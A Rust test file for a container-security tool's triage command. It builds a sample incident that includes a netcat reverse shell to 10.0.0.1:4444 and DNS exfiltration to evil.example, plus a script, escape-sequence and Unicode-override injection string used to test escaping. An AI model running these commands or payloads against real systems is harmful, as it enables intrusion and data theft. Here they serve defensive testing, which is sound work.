use std::{fs, os::unix::fs::PermissionsExt};

use portcullis_proto::v1::{
    GetStoryResponse, Habit, NextStep, Origin, RelatedSignal, Severity, Signal, StoryEvent, StoryProcess, Verdict,
    get_story_request::Subject, story_event::Kind,
};

use crate::support::*;

fn process(number: u32, parent: u32, argv: &[&str]) -> StoryProcess {
    StoryProcess {
        number,
        parent,
        pid: 1000 + number,
        exe: "/bin/x".into(),
        argv: argv.iter().map(|word| (*word).to_owned()).collect(),
        start_time: Some(time(i64::from(number))),
        ..StoryProcess::default()
    }
}

fn event(seconds: i64, kind: Kind, text: &str) -> StoryEvent {
    StoryEvent { time: Some(time(seconds)), kind: kind.into(), text: text.into(), ..StoryEvent::default() }
}

fn story() -> GetStoryResponse {
    let subject = Signal { severity: Severity::High.into(), ..signal(2) };
    let label = format!("nslookup {}.evil.example", "a".repeat(50));
    let words: Vec<&str> = label.split(' ').collect();
    GetStoryResponse {
        container: subject.container.clone(),
        signals: vec![subject.clone()],
        since: Some(time(-3600)),
        until: Some(time(3600)),
        signals_omitted: 3,
        processes: vec![
            process(1, 0, &["php-fpm: pool www"]),
            process(2, 1, &["sh", "-c", "id; nslookup …"]),
            StoryProcess { signal_ids: vec![1], verdict: Verdict::WouldBlock.into(), ..process(3, 2, &words) },
            StoryProcess {
                signal_ids: vec![2],
                verdict: Verdict::WouldBlock.into(),
                ..process(4, 2, &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
            },
            process(5, 4, &["/bin/sh"]),
            process(6, 1, &["sleep", "60"]),
        ],
        timeline: vec![
            event(-40, Kind::ContainerStarted, "container started from docker.io/shop/web:1.2"),
            event(-2, Kind::ProcessStarted, "sh started"),
            StoryEvent {
                signal_id: 1,
                process: 3,
                severity: Severity::Medium.into(),
                ..event(-1, Kind::Signal, &label)
            },
            event(0, Kind::Network, "asks DNS for TXT of aaaa.evil.example"),
            StoryEvent {
                signal_id: 2,
                process: 4,
                severity: Severity::High.into(),
                ..event(0, Kind::Signal, "nc ran")
            },
            StoryEvent { signal_id: 2, process: 4, ..event(1, Kind::Network, "connects to TCP 10.0.0.1:4444") },
            event(14, Kind::Containment, "container frozen"),
            event(30, Kind::Triage, "investigating, says ann"),
        ],
        related: vec![RelatedSignal {
            signal: Some(signal(9)),
            reasons: vec!["same destination 10.0.0.1:4444".into(), "same tool nc".into()],
        }],
        habits: vec![Habit {
            rule: "net_util_in_container".into(),
            tool: "curl".into(),
            origin: Origin::Probe.into(),
            first_seen: Some(time(-900_000)),
            last_seen: Some(time(-9)),
            days_seen: 11,
            times_seen: 9500,
            habitual: true,
        }],
        next_steps: vec![NextStep {
            text: "Freeze the container".into(),
            reason: "a shell is connected".into(),
            command: ["portcullis", "contain", "a b", "--freeze"].map(Into::into).to_vec(),
        }],
        signal: Some(subject),
    }
}

/// Everything that a container chose is an attack.
fn hostile_story() -> GetStoryResponse {
    let attack = "<script>alert(1)</script>\u{202e}\u{1b}[2J\n\0\"'&";
    let subject = Signal { message: attack.into(), ..hostile(2) };
    let mut story = story();
    story.container = subject.container.clone();
    (story.signal, story.signals) = (Some(subject.clone()), vec![subject.clone()]);
    for process in &mut story.processes {
        (process.exe, process.argv) = (attack.into(), vec![attack.into(), attack.into()]);
    }
    for event in &mut story.timeline {
        event.text = attack.into();
    }
    story.related = vec![RelatedSignal { signal: Some(subject), reasons: vec![attack.into()] }];
    (story.habits[0].tool, story.habits[0].rule) = (attack.into(), attack.into());
    story.next_steps[0].command.push(attack.into());
    // A tree that is none.
    (story.processes[4].parent, story.processes[5].parent) = (6, 5);
    story
}

fn agent(story: GetStoryResponse) -> (Node, Agent, Data) {
    let node = Node::new();
    let data = Data { story: Some(story), containers: vec![container()], ..Data::default() };
    let agent = Agent::start(&node, data.clone());
    (node, agent, data)
}

#[test]
fn a_terminal_reads_from_what_it_is_to_what_to_do() {
    let (node, _agent, data) = agent(story());
    let output = node.run(&["triage", "2", "--window", "2h"]);
    let text = stdout(&output);
    let places: Vec<_> = ["Signal 2  high", "Processes", "Timeline", "Elsewhere", "What this workload does", "Next"]
        .map(|title| text.find(title).unwrap_or_else(|| panic!("{title}: {text}")))
        .to_vec();
    assert!(places.is_sorted(), "{text}");
    let tree = "  1001 'php-fpm: pool www'\n  ├─ 1002 sh -c 'id; nslookup …'\n  │  ├─ 1003 nslookup";
    assert!(text.contains(tree), "{text}");
    assert!(
        text.contains(
            "  │  └─ 1004 nc -e /bin/sh 10.0.0.1 4444  ● [2] would_block\n  │     └─ 1005 /bin/sh\n  └─ 1006"
        ),
        "{text}"
    );
    assert!(text.contains("+14.000 s  containment"), "{text}");
    assert!(text.contains("portcullis contain 'a b' --freeze"), "{text}");
    let asked = data.stories.lock().unwrap().pop().unwrap();
    assert_eq!((asked.subject, asked.window.unwrap().seconds), (Some(Subject::SignalId(2)), 7200));
    let id = container().id;
    node.run(&["triage", &id[..6], "--container"]);
    let Some(Subject::Container(asked)) = data.stories.lock().unwrap().pop().unwrap().subject else { panic!() };
    assert_eq!(asked.id, id);
    let json = node.json(&["triage", "2"]);
    assert_eq!((&json["processes"][3]["signalIds"][0], &json["timeline"][5]["kind"]), (&2.into(), &"network".into()));
    assert_eq!(json["related"][0]["signal"]["id"], 9);
    assert_eq!(node.run(&["triage"]).status.code(), Some(2));
}

#[test]
fn what_is_not_there_is_said() {
    let node = Node::new();
    let _agent = Agent::start(&node, Data::default());
    let output = node.run(&["triage", "7"]);
    assert_eq!((output.status.code(), stdout(&output)), (Some(1), String::new()));
    assert!(stderr(&output).contains("there is no signal 7"));
}

#[test]
fn a_page_needs_nothing_and_does_nothing() {
    let (node, _agent, _) = agent(story());
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("story.html");
    let output = node.run(&["triage", "2", "--html", path.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let page = fs::read_to_string(&path).unwrap();
    assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(page.contains("Content-Security-Policy\" content=\"default-src 'none';"), "{page}");
    for forbidden in ["http://", "https://", "<script", "<link", "<img", "url(", "@import", "onload"] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
    assert_eq!(page.matches("<circle").count(), 6 + 8, "each process and each event");
    assert!(page.contains("nc -e /bin/sh 10.0.0.1 4444") && page.contains("same destination 10.0.0.1:4444"));
    assert_eq!(stdout(&node.run(&["triage", "2", "--html", "-"])), page);
    let nowhere = node.run(&["triage", "2", "--html", "/nonexistent/x.html"]);
    assert_eq!(nowhere.status.code(), Some(1));
    assert!(stderr(&nowhere).contains("writing /nonexistent/x.html"));
}

#[test]
fn nothing_that_a_container_chose_is_obeyed() {
    let (node, _agent, _) = agent(hostile_story());
    assert_harmless(&stdout(&node.run(&["triage", "2"])));
    let page = stdout(&node.run(&["triage", "2", "--html", "-"]));
    assert_harmless(&page);
    assert!(!page.contains("<script") && page.contains("&lt;script&gt;"), "{page}");
    assert!(page.contains("\\u{202e}\\x1b[2J\\n\\0") || page.contains("\\x1b[2J"), "{page}");
}
